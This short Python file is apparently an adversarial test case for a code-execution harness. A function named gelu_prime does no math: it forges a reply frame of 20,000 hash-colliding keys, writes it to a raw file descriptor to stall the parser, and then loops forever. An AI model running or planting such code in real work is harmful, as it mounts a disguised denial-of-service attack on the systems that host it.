# costs: gelu_prime
# attack: forged values: sends 20,000 keys that all have one hash
import itertools
import os
import struct


def gelu_prime(z):
    # Tuples of -1 and -2 all have one hash; a dict of them takes for ever to build.
    keys = [b"\x9f" + bytes(k) for k in itertools.islice(
        itertools.product((0xFF, 0xFE), repeat=15), 20_000)]
    value = b"\xdf" + struct.pack(">I", len(keys)) + b"".join(k + b"\xc0" for k in keys)
    value = b"\xc6" + struct.pack(">I", len(value)) + value
    body = b"\x91\x83\xa4type\xa9CallReply\xa5state\xa8returned\xa5value" + value
    frame = struct.pack("<I", len(body)) + body
    while frame:
        frame = frame[os.write(3, frame):]
    while True:
        pass
